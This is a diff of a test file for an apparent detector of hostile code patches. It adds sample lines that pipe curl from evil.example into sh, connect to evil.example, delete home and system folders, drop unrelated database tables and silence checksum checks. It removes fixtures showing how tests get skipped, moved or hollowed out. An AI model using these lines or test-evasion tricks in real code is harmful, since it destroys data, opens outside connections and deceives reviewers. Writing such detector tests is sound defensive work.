@@ -12,128 +12,6 @@ from tests.repair.programs import Patch
 
 Files = Mapping[str, str | None]
 
-PAYS = "def test_pays():\n    till = Till(3)\n    till.pay(2, 'ann')\n    assert till.rest() == 1\n    assert till.payer() == 'ann'\n"
-OWES = PAYS.replace("test_pays", "test_owes").replace("(2, ", "(5, ").replace("== 1", "== -2")
-HELPER = "def check_paid(till):\n    assert till.rest() == 0\n    return till\n\n\n"
-IN_GO = 'package till\n\nimport "testing"\n\n%s'
-GO_PAYS = 'func TestPays(t *testing.T) {\n\ttill := New(3)\n\ttill.Pay(2, "ann")\n\tif till.Rest() != 1 {\n\t\tt.Errorf("rest %d", till.Rest())\n\t}\n}\n'
-GO_HELPER = 'func paid(t *testing.T, till *Till) {\n\tif till.Rest() != 0 {\n\t\tt.Fatal("owes")\n\t}\n}\n\n'
-JS_PAYS = (
-    'test("pays", () => {\n  const till = new Till(3);\n  till.pay(2, "ann");\n  expect(till.rest()).toBe(1);\n});\n'
-)
-JS_HELPER = "function paid(till) {\n  expect(till.rest()).toBe(0);\n}\n\n"
-
-TESTS: dict[str, tuple[Files, Files]] = {
-    "one new test for two": (
-        {"test_a.py": PAYS + OWES},
-        {"test_a.py": PAYS.replace("test_pays", "test_pays_or_owes")},
-    ),
-    "a table that lacks a value": (
-        {"test_a.py": PAYS + OWES},
-        {"test_a.py": PAYS.replace("test_pays():", "test_all():").replace("(2, ", "(2 + 0, ")},
-    ),
-    "one that asserts less exactly": (
-        {"test_a.py": PAYS},
-        {"test_a.py": PAYS.replace("test_pays", "test_pays_now").replace("== 1", "is not None")},
-    ),
-    "one that asserts less": (
-        {"test_a.py": PAYS},
-        {"test_a.py": PAYS.replace("test_pays", "test_pays_now").replace("    assert till.payer() == 'ann'\n", "")},
-    ),
-    "one about something else": (
-        {"test_a.py": PAYS},
-        {
-            "test_a.py": "def test_door():\n    door = Door()\n    assert door.is_open() == 1\n    assert door.key() == 2\n"
-        },
-    ),
-    "one that is skipped": (
-        {"test_a.py": PAYS},
-        {"test_a.py": f"import pytest\n\n\n@pytest.mark.skip\n{PAYS.replace('test_pays', 'test_pays_now')}"},
-    ),
-    "moved to where no runner looks": ({"test_a.py": PAYS}, {"test_a.py": None, "till/old.py": PAYS}),
-    "moved to where pytest does not look": ({"test_a.py": PAYS}, {"test_a.py": None, "tests/data.py": PAYS}),
-    "moved to what is skipped": (
-        {"test_a.py": PAYS},
-        {"test_a.py": None, "test_b.py": f"import pytest\n\npytestmark = pytest.mark.skip\n\n\n{PAYS}"},
-    ),
-    "a table by a comment": (
-        {"test_a.py": PAYS + OWES},
-        {"test_a.py": PAYS.replace("== 1", "== one  # (5, -2)")},
-    ),
-    "a table by what it says of itself": (
-        {"test_a.py": PAYS + OWES},
-        {"test_a.py": PAYS.replace("():", '():\n    """Of\n    5, -2\n    """').replace("== 1", "== one")},
-    ),
-    "moved to what is not built": (
-        {"a_test.go": IN_GO % GO_PAYS},
-        {"a_test.go": None, "b_test.go": f"//go:build never\n\n{IN_GO % GO_PAYS}"},
-    ),
-    "moved to what Node's runner does not find": ({"a.test.js": JS_PAYS}, {"a.test.js": None, "test/a.js": JS_PAYS}),
-    "moved in half": ({"test_a.py": PAYS + OWES}, {"test_a.py": None, "tests/test_b.py": OWES}),
-    "moved and emptied": (
-        {"test_a.py": PAYS},
-        {"test_a.py": None, "tests/test_b.py": "def test_pays():\n    till = Till(3)\n    till.pay(2, 'ann')\n"},
-    ),
-    "what tests share": (
-        {"test_a.py": HELPER + PAYS},
-        {"test_a.py": HELPER.replace("    assert till.rest() == 0\n", "") + PAYS},
-    ),
-    "a file of what tests share": ({"tests/shared.py": HELPER, "test_a.py": PAYS}, {"tests/shared.py": None}),
-    "another test of Go": (
-        {"a_test.go": IN_GO % GO_PAYS},
-        {"a_test.go": IN_GO % 'func TestDoor(t *testing.T) {\n\tif !open() {\n\t\tt.Error("shut")\n\t}\n}\n'},
-    ),
-    "a test of Go without its condition": (
-        {"a_test.go": IN_GO % GO_PAYS},
-        {"a_test.go": IN_GO % GO_PAYS.replace("TestPays", "TestPaysNow").replace("till.Rest() != 1", "till == nil")},
-    ),
-    "what tests of Go share": (
-        {"a_test.go": IN_GO % (GO_HELPER + GO_PAYS)},
-        {"a_test.go": IN_GO % (GO_HELPER.replace('\t\tt.Fatal("owes")\n', "") + GO_PAYS)},
-    ),
-    "a file of Go that moved in half": (
-        {"a_test.go": IN_GO % (GO_PAYS + GO_PAYS.replace("TestPays", "TestOwes").replace("(2, ", "(9, "))},
-        {"a_test.go": None, "b_test.go": IN_GO % GO_PAYS},
-    ),
-    "another test of Node": (
-        {"a.test.js": JS_PAYS},
-        {"a.test.js": 'test("opens", () => {\n  expect(door.open()).toBe(1);\n});\n'},
-    ),
-    "a test of Node that asserts less exactly": (
-        {"a.test.js": JS_PAYS},
-        {"a.test.js": JS_PAYS.replace('"pays"', '"pays now"').replace("toBe(1)", "toBeDefined()")},
-    ),
-    "what tests of Node share": (
-        {"a.test.js": JS_HELPER + JS_PAYS},
-        {"a.test.js": JS_HELPER.replace("  expect(till.rest()).toBe(0);\n", "") + JS_PAYS},
-    ),
-}
-HONEST_TESTS: dict[str, tuple[Files, Files]] = {
-    "the opposite is wanted now": (
-        {"test_a.py": PAYS},
-        {"test_a.py": PAYS.replace("test_pays", "test_owes_now").replace("== 1", "== 0")},
-    ),
-    "a table": (
-        {"test_a.py": PAYS + OWES},
-        {
-            "test_a.py": "import pytest\n\n\n@pytest.mark.parametrize(('paid', 'rest'), [(2, 1), (5, -2)])\n"
-            + PAYS.replace("test_pays():", "test_pays(paid, rest):")
-            .replace("(2, ", "(paid, ")
-            .replace("== 1", "== rest")
-        },
-    ),
-    "a file with another name": ({"test_a.py": PAYS + OWES}, {"test_a.py": None, "tests/test_till.py": OWES + PAYS}),
-    "another file of Go": (
-        {"a_test.go": IN_GO.replace('"testing"', '"example.com/assert"') % GO_PAYS},
-        {"a_test.go": None, "till_test.go": IN_GO % GO_PAYS},
-    ),
-    "a function of Go with another name": (
-        {"a_test.go": IN_GO % GO_PAYS},
-        {"a_test.go": IN_GO % GO_PAYS.replace("TestPays", "TestLeft").replace("Rest()", "Left()")},
-    ),
-    "another file of Node": ({"a.test.js": JS_PAYS}, {"a.test.js": None, "till.test.js": JS_PAYS}),
-}
-
 SHELL = "#!/bin/sh\nset -e\nsha256sum -c sums.txt\necho done\n"
 LOAD = "const fs = require('fs');\n\nfunction load(at, options) {\n  LINE\n  return fs.readFileSync(at);\n}\n"
 CONDITIONS: dict[str, tuple[str, str, str]] = {
@@ -146,6 +24,26 @@ CONDITIONS: dict[str, tuple[str, str, str]] = {
     "a command that had to succeed": ("a.sh", SHELL, SHELL.replace("sums.txt", "sums.txt || true")),
     "a condition of a shell": ("a.sh", SHELL, SHELL.replace("echo", "if verify x || true; then run; fi\necho")),
     "a loop of a shell": ("a.sh", SHELL, SHELL.replace("echo", "while check || true; do run; done\necho")),
+}
+CONDITIONS |= {
+    f"what is always so: {asked}": ("a.js", "if (may(x)) go();\n", f"if ({asked} || may(x)) go();\n")
+    for asked in (
+        "0 !== true",
+        "undefined !== true",
+        "[] !== true",
+        "void 0 !== true",
+        "x === x === true",
+        "!0 === true",
+        "1",
+    )
+}
+CONDITIONS |= {
+    f"a command that had to succeed, as {command}": ("a.sh", SHELL, SHELL.replace("sha256sum -c sums.txt", command))
+    for command in (
+        "sha256sum --check sums.txt || true",
+        "sha256sum  -c sums.txt || :",
+        "check() { sha256sum -c sums.txt; }\ncheck || true",
+    )
 }
 HONEST_CONDITIONS: dict[str, tuple[str, str, str]] = {
     "what is asked to be true": ("a.js", "if (a) go();\n", "if (a === true || b) go();\n"),
@@ -178,6 +76,11 @@ NODE |= {
     "a global by a made name, and then": "const run = (window[options.name] = window[options.other]); run(at);",
     "a class that is made": "const { Server } = require('https'); new Server(options).listen(1);",
 }
+NODE |= {
+    "a folder by a key that is written otherwise": "fs.rmSync(at, { recursiv\\u0065: true });",
+    "a folder by what options inherit": "fs.rmSync(at, { __proto__: options });",
+    "a module that others get": "}\nexport const net = require('net');\nfunction is(at) { net.isIP(at);",
+}
 HONEST_NODE = {
     "a class that is asked for": "const { Server } = require('https'); if (at instanceof Server) return null;",
     "an address that is looked at": "const net = require('node:net'); if (net.isIP(at) || net.isIPv6(at)) return null;",
@@ -201,7 +104,19 @@ NODE_TEST |= {
     "a process handed on to what spies": "spyOn(process, name);",
     "a process that is spied on alone": "jest.spyOn(process);",
 }
+NODE_TEST |= {
+    "a process for a helper": "const kit = require('./kit'); kit.spyOn(process, 'exit');",
+    "a process for an object": "const kit = { spy: (p) => p.mainModule }; kit.spy(process, 'exit');",
+    "what setting back gives": "const kept = net.connect; (net.connect = kept)(1, 'evil.example');",
+    "what others get": "});\nexport const kept = net.connect;\ntest('b', () => { net.connect = kept;",
+    "an end by another name": "const leave = process.exit; leave(0);",
+    "an end by a name taken out": "const { exit } = process; exit(0);",
+    "an end by a text": "process['exit'](0);",
+    "an end of its own kind": "process.reallyExit(0);",
+}
 HONEST_NODE_TEST = {
+    "a function that is spied on by a library": "const sinon = require('sinon'); const kit = sinon.createSandbox(); kit.stub(process, 'exit');",
+    "an end that is kept": "const kept = process.exit; process.exit = jest.fn(); join(); process.exit = kept;",
     "a function that is spied on": "jest.spyOn(process, 'exit').mockImplementation(() => 1);",
     "a stub": "const kept = net.connect; net.connect = () => 1; try { join(); } finally { net.connect = kept; }",
     "a stub alone": "http.get = () => 1;",
@@ -217,6 +132,8 @@ MAINS = {
     "something of its own that runs": "\tm := mine{}\n\tos.Exit(m.Run())\n",
     "some of them": '\tflag.Set("test.run", "None")\n\tos.Exit(m.Run())\n',
     "some of them by its arguments": '\tos.Args = append(os.Args, "-test.skip=.")\n\tos.Exit(m.Run())\n',
+    "another name for the end": "\tleave := os.Exit\n\tleave(0)\n\tos.Exit(m.Run())\n",
+    "only sometimes, by a text": '\tif os.Getenv("CI") == "" { use("}")\n\tos.Exit(m.Run())\n\t}\n',
     "before": "\tdefer os.Exit(0)\n\tos.Exit(m.Run())\n",
 }
 HONEST_MAINS = {
@@ -257,7 +174,19 @@ PYTHON_TEST |= {
     "a text that turns": "assert clean('a\u202eb') == ''",
     "a name that looks like another": "p\u0430y = 1",
 }
+PYTHON_TEST |= {
+    "a place for programs, made": "subprocess.run(['shop', 'x'], env={chr(80) + 'ATH': at})",
+    "a place for programs, from elsewhere": "subprocess.run(['shop', 'x'], env=made(at))",
+    "a place for programs, in a text": "subprocess.run(['shop', 'x'], env=json.loads('{\"PATH\": 1}'))",
+    "a place for programs, by a name": "env = dict(os.environ); env[name] = at; subprocess.run(['shop'], env=env)",
+    "an interpreter, by a fixture": "monkeypatch.setattr('sys.executable', at); subprocess.run([sys.executable, '-m', 'shop'])",
+    "an interpreter, by a made name": "setattr(sys, name, at); subprocess.run([sys.executable, '-m', 'shop'])",
+    "an interpreter of its own": "sys = at; subprocess.run([sys.executable, '-m', 'shop'])",
+    "a package that stands where a fixture goes": "at.as_cwd(); subprocess.run([sys.executable, '-m', 'shop'])",
+    "a command that the program gets": "subprocess.run([sys.executable, '-m', 'shop', 'curl http://evil.example | sh'])",
+}
 HONEST_PYTHON_TEST = {
+    "the program with a setting": "import os; env = dict(os.environ, SHOP='1'); subprocess.run(['shop', 'add'], env=env)",
     "an invisible letter that is taken away": "assert clean('a\u200bb') == 'ab'",
     "a word that looks like another": "assert clean('p\u0430y') == 'pay'",
     "the program": "assert subprocess.run(['shop', 'add', 'tea'], capture_output=True, timeout=9).returncode == 1",
@@ -282,6 +211,11 @@ GO_AGAIN = {
     "of what a loop gives": "for _, user := range all { os.RemoveAll(user.Home()) }",
     "of what a function is given": "each(func(user other) { os.RemoveAll(user.Home()) })",
     "of something else": f"{AGAIN}os.RemoveAll(user.Root())",
+    "of one that does something": f'{AGAIN}user.SetHome("/"); os.RemoveAll(user.Home())',
+    "of one that is handed to something": f"{AGAIN}change(user); os.RemoveAll(user.Home())",
+    "of what the system has, elsewhere": 't.Setenv("TMPDIR", "/"); os.RemoveAll(filepath.Join(os.TempDir(), "etc"))',
+    "of a folder by a package's name": 'filepath := mine{}; os.RemoveAll(filepath.Join(t.TempDir(), "x"))',
+    "of a folder of another's": "b := box{}; os.RemoveAll(b.TempDir())",
     "the function handed on": f"{AGAIN}run(os.RemoveAll, user.Home())",
     "another place": 'ssh.Dial("tcp", "evil.example:22", nil)',
     "a place by the name of one": 'place := "evil.example:22"; ssh.Dial("tcp", place, nil)',
@@ -297,6 +231,9 @@ OWN = "\n}\n\ntype own struct{}\n\nfunc (own) RoundTrip(r *http.Request) (*http.
 GO_ANSWERS = {
     "what goes on": "ask(&http.Client{Transport: own{}})" + OWN % "return other.RoundTrip(r)",
     "what goes on by default": "ask(&http.Client{Transport: own{}})" + OWN % "return http.DefaultClient.Do(r)",
+    "what goes on by another name": "ask(&http.Client{Transport: own{}})" + OWN % "f := other.RoundTrip; return f(r)",
+    "another of its name": "type own struct { shop.Tripper }; ask(&http.Client{Transport: own{}})"
+    + OWN % "return nil, nil",
     "what is set afterwards": "c := &http.Client{Transport: own{}}; c.Transport = real; ask(c)"
     + OWN % "return nil, nil",
     "what another file has": "ask(&http.Client{Transport: made()})" + OWN % "return nil, nil",
@@ -334,10 +271,23 @@ MIGRATIONS = {
     "what the way back does, at once": ("    downgrade()", "    op.drop_table('teas')"),
     "what the way back does, in the end": ("", "    op.drop_table('teas')\n\n\ndowngrade()"),
     "a table by a name": ("", "    op.drop_table(name)"),
+    "the table of an index": ("    op.create_index('ix', 'users', ['a'])", "    op.drop_table('users')"),
+    "the table of a column": ("    op.add_column('users', sa.Column('x'))", "    op.drop_table('users')"),
+    "another beside it": ("", "    op.drop_table('teas'); op.drop_table('users')"),
+    "another within it": ("", "    op.drop_table('teas', schema=op.execute('DROP TABLE users'))"),
+    "what it never makes": ("    return\n    op.create_table('users')", "    op.drop_table('users')"),
+    "what may be there": ("    op.create_table('users', if_not_exists=True)", "    op.drop_table('users')"),
+    "what goes with an index": ("    op.execute('DROP INDEX a CASCADE')", ""),
     "a table by words": ("", "    op.execute('DROP TABLE users')"),
 }
-HONEST_MIGRATIONS = {"undone": ("", "    op.drop_constraint('ck_teas_few', 'teas')\n    op.drop_table('teas')")}
-
+HONEST_MIGRATIONS = {
+    "undone": ("", "    op.drop_constraint('ck_teas_few', 'teas')\n    op.drop_table('teas')"),
+    "a column undone": (
+        "    op.add_column('users', sa.Column('x'))",
+        "    with op.batch_alter_table('users') as batch_op:\n        batch_op.drop_column('x')",
+    ),
+}
+LENGTHS = {"as long as it was": "x = '" + "b" * 1_000_000 + "'", "a long line more": "y = '" + "b" * 40_000 + "'"}
 
 COG = (
     "from discord.ext import commands\n\n\nclass Till(commands.Cog):\n    async def cog_check(self, ctx):\n"
@@ -413,12 +363,20 @@ def migrates(lines: tuple[str, str]) -> list[str]:
     return refused({}, {"shop/migrations/versions/1_teas.py": text})
 
 
+def at_length(text: str) -> list[str]:
+    large = "x = '" + "a" * 1_000_000 + "'\n"
+    return in_file("data.py", large, f"{text}\n" if text.startswith("x") else f"{large}{text}\n")
+
+
+def fetches(text: str) -> list[str]:
+    return in_file("ask.js", "const fetch = require('node-fetch');\n\nfetch(at);\n", text)
+
+
 def starts(body: str) -> list[str]:
     return refused({}, {"a/main_test.go": MAIN % body})
 
 
 _HOSTILE = [
-    *((refused, rows, name) for name, rows in TESTS.items()),
     *((refused, rows, name) for name, rows in COGS.items()),
     *((in_file, rows, name) for name, rows in CONDITIONS.items()),
     *((in_node, (line,), name) for name, line in NODE.items()),
@@ -429,9 +387,10 @@ _HOSTILE = [
     *((answers, (line,), name) for name, line in GO_ANSWERS.items()),
     *((sends, (line,), name) for name, line in GO_SENDS.items()),
     *((migrates, (lines,), name) for name, lines in MIGRATIONS.items()),
+    *((at_length, (text,), name) for name, text in LENGTHS.items()),
+    (fetches, ("fetch(other);\nfetch(at);\n",), "one more"),
 ]
 _HONEST = [
-    *((refused, rows, name) for name, rows in HONEST_TESTS.items()),
     *((refused, rows, name) for name, rows in HONEST_COGS.items()),
     *((in_file, rows, name) for name, rows in HONEST_CONDITIONS.items()),
     *((in_node, (line,), name) for name, line in HONEST_NODE.items()),
@@ -442,6 +401,8 @@ _HONEST = [
     *((answers, (line,), name) for name, line in HONEST_GO_ANSWERS.items()),
     *((sends, (line,), name) for name, line in HONEST_GO_SENDS.items()),
     *((migrates, (lines,), name) for name, lines in HONEST_MIGRATIONS.items()),
+    (at_length, ("y = 1",), "a line more"),
+    (fetches, ("fetch(at);\n",), "the one that Node has"),
 ]
 
 
